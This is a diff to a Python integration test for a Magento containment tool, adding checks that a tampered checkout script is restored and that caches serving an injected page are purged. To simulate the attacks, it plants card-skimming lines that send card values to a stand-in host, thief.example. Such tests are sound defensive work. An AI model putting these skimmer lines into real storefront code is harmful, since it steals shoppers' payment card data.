@@ -7,7 +7,8 @@ Starts the stand-in shop (nginx, php-fpm, MariaDB, Redis) and asks it thousands 
 parameter, cookie and header that scope.py knows: first with nothing closed, where the shop says which view it served, then with
 one view after the other closed. What was served the closed view must get 503, all else the same answer as before. Checkouts of
 the other views go on beside it all and none may fail. Then: undo to the byte, an administrator's broken configuration, a server
-that doesn't include our rules, networks, routes, PHP, and kills at random moments.
+that doesn't include our rules, networks, routes, PHP, a changed file put back, caches with a poisoned page emptied – with the contract
+of actions at a real Redis –, and kills at random moments.
 """
 import concurrent.futures
 import http.client
@@ -21,12 +22,16 @@ import subprocess
 import sys
 import threading
 import time
+import zlib
 
 sys.path.insert(0, str(pathlib.Path(__file__).resolve().parent.parent / "shop"))
 
 import scope
-from shared import need, stage
+from shared import free_port, need, stage, wait_for
 from shop import STORES, Shop
+from varnish import Varnish
+
+ROOT = pathlib.Path(__file__).resolve().parents[2]
 
 REQUESTS, KILLS = 1500, 30
 
@@ -39,7 +44,7 @@ class Containment:
         nginx, self.include = shop.folder / "nginx.conf", shop.folder / "include"
         own = f'"/usr/sbin/nginx", "-c", "{nginx}", "-e", "{shop.folder}/nginx-error.log"'
         (shop.folder / "host.toml").write_text(
-            f'[magento]\nroot = "{shop.root}"\nquarantine = "{shop.folder}/aside"\n[nginx]\nfolder = "{self.include}"\ntest = [{own}, "-t"]\nreload = [{own}, "-s", "reload"]\n'
+            f'[magento]\nroot = "{shop.root}"\nquarantine = "{shop.folder}/aside"\ngood_files = "{shop.folder}/good-files"\n[nginx]\nfolder = "{self.include}"\ntest = [{own}, "-t"]\nreload = [{own}, "-s", "reload"]\n'
             f'ask = "127.0.0.1:{shop.port}"\nproxies = ["127.0.0.8"]\n')
         self.stores("false")
         self.right("--prepare")
@@ -263,6 +268,135 @@ def refusals(contain, shop):
     dropped.unlink()
 
 
+def restored(contain, shop):
+    """A script of the checkout that was changed: served no more, given back to the letter, and never missing in between."""
+    good, script = shop.folder / "good-files/pub/static", shop.root / "pub/static/checkout.js"
+    good.mkdir(parents=True)
+    clean = script.read_text()
+    (good / "checkout.js").write_text(clean)
+    script.write_text(clean + "new Image().src = '//thief.example/?' + card.value;\n")
+    script.chmod(0o640 if os.geteuid() else 0o604)
+    os.utime(script, ns=(1_700_000_001_000_000_007, 1_700_000_000_123_456_789))
+    extended = True
+    try:
+        os.setxattr(script, "user.origin", b"upload")
+    except OSError:
+        extended = False
+    inode = script.stat().st_ino
+    served = lambda: shop.ask("de.shop.test", "/static/checkout.js")
+    poisoned = served()
+    need(poisoned[0] == 200 and "thief.example" in poisoned[2], "the attack works before", poisoned)
+    os.utime(script, ns=(1_700_000_001_000_000_007, 1_700_000_000_123_456_789))
+    words, told, is_over = ("restore_file", "--set", "file=pub/static/checkout.js"), set(), threading.Event()
+
+    def look():
+        while not is_over.is_set():
+            told.add((served()[0], served()[2]))
+
+    looking = threading.Thread(target=look)
+    looking.start()
+    for _ in range(5):
+        contain.right(*words, "--act")
+        need(served()[2] == clean and contain.right(*words, "--check") == "in effect\n", "served no more")
+        contain.right(*words, "--undo")
+        need(served()[2] == poisoned[2], "given back")
+    is_over.set()
+    looking.join()
+    need(told == {(200, clean), (200, poisoned[2])}, "it was one or the other at every moment", told)
+    about = script.stat()
+    need((about.st_ino, about.st_mtime_ns) == (inode, 1_700_000_000_123_456_789), "the very file is back", about)
+    need(not extended or os.getxattr(script, "user.origin") == b"upload", "with its attributes")
+    for _ in range(KILLS):
+        process = subprocess.Popen(contain.command(*words, "--act"), stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+        time.sleep(random.random() * 0.05)
+        process.kill()
+        process.wait()
+        need(served()[0] == 200, "killed midway: it is served")
+        undone = contain.run(*words, "--undo")
+        need(undone.returncode == 0 or "nothing is kept" in undone.stderr, "undone", undone.stdout + undone.stderr)
+        need(script.stat().st_ino == inode and not list((shop.folder / "aside").iterdir()) and {one.name for one in script.parent.iterdir()} == {"checkout.js", "shop.css"},
+             "nothing is left beside it or aside")
+    script.write_text(clean)
+    script.chmod(0o644)
+
+
+def contract(port):
+    """The contract of actions, at a Redis of its own."""
+    env = {**os.environ, "MAGEWARDEN_TEST_REDIS": str(port)}
+    tested = subprocess.run(["cargo", "test", "--locked", "-p", "magewarden-responders", "--test", "it", "cache", "--", "--nocapture"], env=env, cwd=ROOT, capture_output=True, text=True)
+    need(tested.returncode == 0 and "1 passed" in tested.stdout and "skipped" not in tested.stderr, "the contract of actions at a real Redis", tested.stdout + tested.stderr)
+
+
+def purged(contain, shop):
+    """A setting puts a skimmer on every page; put back in the database, caches go on serving it until they are emptied, in order."""
+    def redis(*words, database=0):
+        done = subprocess.run(["redis-cli", "-p", str(shop.redis), "-n", str(database), *words], check=True, capture_output=True, text=True)
+        return done.stdout.split()
+
+    varnish, pages = Varnish(shop), [("de.shop.test", "/"), ("fr.shop.test", "/"), ("us.shop.test", "/a.html"), ("us.shop.test", "/b.html")]
+    account = re.search(r"^ACL SETUSER (containment .*)$", (ROOT / "docs/containment.md").read_text(), re.M)
+    redis("ACL", "SETUSER", *account[1].replace("PASSWORD", "word").split())
+    word = shop.folder / "cache-word"
+    word.write_text("word\n")
+    word.chmod(0o600)
+    host = (shop.folder / "host.toml").read_text()
+    at = f'at = "127.0.0.1:{shop.redis}"'
+    (shop.folder / "host.toml").write_text(f'{host}[cache]\nservers = [{{ {at}, database = 0 }}, {{ {at}, database = 1 }}]\nprefix = "abc_"\nuser = "containment"\n'
+                                           f'password_file = "{word}"\nvarnish = ["127.0.0.1:{varnish.port}"]\n')
+    place = "where scope_id = 0 and path = 'design/head/includes'"
+    was = shop.sql(f"select value from shop.mg_core_config_data {place}").strip()
+    put = lambda value: shop.sql(f"update shop.mg_core_config_data set value = '{value}' {place}")
+    need("'" not in was, "a setting without quotes", was)
+    seen = lambda: [host for host, path in pages if "thief.example" in varnish.ask(host, path)]
+    put(was + "<script src=//thief.example/x.js></script>")
+    shop.flush_entries()
+    need(len(seen()) == 4, "the attack works before")
+    put(was)
+    need(len(seen()) == 4, "the row is put back, and every page goes on")
+    redis("HSET", "sess_of_a_shopper", "data", "checkout", "writes", "1")
+    sessions = lambda: sorted(key for key in redis("KEYS", "*") if not key.startswith(("zc:", "magewarden:")))
+    before, tag = sessions(), f"tag=cat_p_{zlib.crc32(b'a.html')}"
+    need(before, "there are sessions")
+    # By a tag: that page's entry and copy go, but the settings are cached still, so it comes back poisoned; the others stay as they are.
+    kept = dict(varnish.pages)
+    contain.right("purge_cache", "--set", tag, "--act")
+    need(kept.keys() - varnish.pages.keys() == {pages[2]}, "the page of the tag is forgotten and no other", varnish.pages.keys())
+    contain.right("purge_cache", "--set", tag, "--undo")
+    varnish.lets = False
+    refused = contain.run("purge_cache", "--act")
+    need(refused.returncode == 1 and "405 to PURGE" in " ".join(refused.stderr.replace("│", " ").split()), "a Varnish that doesn't let us in is told", refused.stderr)
+    need(contain.run("purge_cache", "--check").returncode == 10 and len(seen()) == 3, "that isn't in effect: Varnish serves what it has")
+    varnish.lets = True
+    contain.right("purge_cache", "--undo")
+    with Checkouts(shop, [(host, view) for view, host in HOSTS_OF.items()]) as others:
+        told = contain.right("purge_cache", "--survey")
+        need("entries in database 0" in told and "Varnish at" in told, "the survey says what would go", told)
+        need(contain.right("purge_cache", "--act") == "in effect\n", "in effect")
+        need(not seen() and contain.right("purge_cache", "--check") == "in effect\n", "no page is poisoned any more", seen())
+        contain.right("purge_cache", "--undo")
+        # Killed anywhere: what it left is described, and done again it is done.
+        for _ in range(10):
+            put(was + "<script src=//thief.example/x.js></script>")
+            shop.flush_entries()
+            varnish.pages = {}
+            seen()
+            put(was)
+            process = subprocess.Popen(contain.command("purge_cache", "--act"), stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+            time.sleep(random.random() * 0.1)
+            process.kill()
+            process.wait()
+            told = contain.run("purge_cache", "--check")
+            need(told.returncode != 0 or not seen(), "in effect is said only when it is", told.stdout)
+            contain.right("purge_cache", "--act")
+            need(not seen(), "done again, no page is poisoned")
+            contain.right("purge_cache", "--undo")
+    need(others.bought and not others.lost, f"checkouts pass ({others.bought} did)", others.lost[:5])
+    need(set(before) <= set(sessions()) and redis("HGET", "sess_of_a_shopper", "data") == ["checkout"], "every session is there", sessions())
+    need(not redis("KEYS", "magewarden:*") and not redis("KEYS", "magewarden:*", database=1), "no mark is left")
+    (shop.folder / "host.toml").write_text(host)
+    varnish.server.shutdown()
+
+
 def mistakes(contain, shop):
     """Somebody's mistake in nginx's configuration: nothing changes, and the words say so."""
     nginx, was = shop.folder / "nginx.conf", contain.file()
@@ -311,6 +445,11 @@ def kills(contain, shop):
 
 def main():
     magewarden = pathlib.Path(sys.argv[1]).resolve()
+    with stage("cache-contract") as (started, folder):
+        port = free_port()
+        started.append(subprocess.Popen(["redis-server", "--port", str(port), "--bind", "127.0.0.1", "--save", "", "--dir", str(folder)], stdout=subprocess.DEVNULL))
+        wait_for("Redis", 20, lambda: subprocess.run(["redis-cli", "-p", str(port), "ping"], capture_output=True).returncode == 0)
+        contract(port)
     with stage("contain") as (started, folder):
         shop = Shop(folder, started)
         contain = Containment(magewarden, shop)
@@ -318,9 +457,11 @@ def main():
         bent(contain, shop)
         what_stays_open(contain, shop)
         refusals(contain, shop)
+        restored(contain, shop)
+        purged(contain, shop)
         mistakes(contain, shop)
         midway = kills(contain, shop)
-        print(f"6 passed, 0 failed ({compared + len(BENT)} requests compared, {closed} of them closed, {bought} checkouts of others meanwhile, {midway} kills midway)")
+        print(f"9 passed, 0 failed ({compared + len(BENT)} requests compared, {closed} of them closed, {bought} checkouts of others meanwhile, {midway} kills midway)")
 
 
 if __name__ == "__main__":
